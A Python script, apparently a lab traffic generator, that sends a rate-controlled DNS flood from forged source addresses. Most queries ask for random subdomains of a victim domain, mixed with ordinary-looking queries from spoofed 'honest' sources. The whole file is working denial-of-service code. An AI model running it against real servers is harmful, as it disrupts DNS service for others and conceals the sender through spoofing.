"""A flood as a program of its own: one source sends most of it, many others ask for usual names.

    python flooding.py SERVER RATE

Run on the client of `Lab.pair`, as root: the sources are forged. `FLOODER` sends three of four
packets, each for another name below `VICTIM`; `HONEST` others share the rest. RATE is in packets a
second. Prints `flooding` once it has begun, and goes on until it is ended.
"""

from __future__ import annotations

import itertools
import random
import socket
import struct
import sys
import time
from typing import Final

FLOODER: Final = "203.0.113.7"
VICTIM: Final = "victim.example"
HONEST: Final = 50
"""Sources 198.51.100.1 and following."""

NAMES: Final = ("www.example", "mail.example", "api.shop.example", "static.example.net")
TICK_SECONDS: Final = 0.01
_A, _AAAA = 1, 28


def packet(source: str, server: str, name: str, qtype: int, number: int) -> bytes:
    """Return an IPv4 packet with a query; the kernel fills in what is 0 of the IP header."""
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    message = struct.pack("!6H", number & 0xFFFF, 0x0100, 1, 0, 0, 0)
    message += labels + struct.pack("!BHH", 0, qtype, 1)
    datagram = struct.pack("!4H", 1024 + number % 60_000, 53, 8 + len(message), 0) + message
    addresses = socket.inet_aton(source) + socket.inet_aton(server)
    return (
        struct.pack("!BBHHHBBH", 0x45, 0, 0, 0, 0, 64, socket.IPPROTO_UDP, 0) + addresses + datagram
    )


def main(server: str, rate: int) -> None:
    """Send until this program is ended."""
    chance = random.Random(1)
    numbers = itertools.count()
    began = time.monotonic()
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sock:
        print("flooding", flush=True)  # noqa: T201 - for who started this
        sent = 0
        while True:
            due = int((time.monotonic() - began) * rate)
            for number in itertools.islice(numbers, max(0, due - sent)):
                source, name = FLOODER, f"{chance.getrandbits(40):x}.{VICTIM}"
                if number % 4 == 0:
                    source = f"198.51.100.{1 + chance.randrange(HONEST)}"
                    name = chance.choice(NAMES)
                qtype = _AAAA if number % 3 == 0 else _A
                sock.sendto(packet(source, server, name, qtype, number), (server, 0))
            sent = max(sent, due)
            time.sleep(TICK_SECONDS)


if __name__ == "__main__":
    main(sys.argv[1], int(sys.argv[2]))
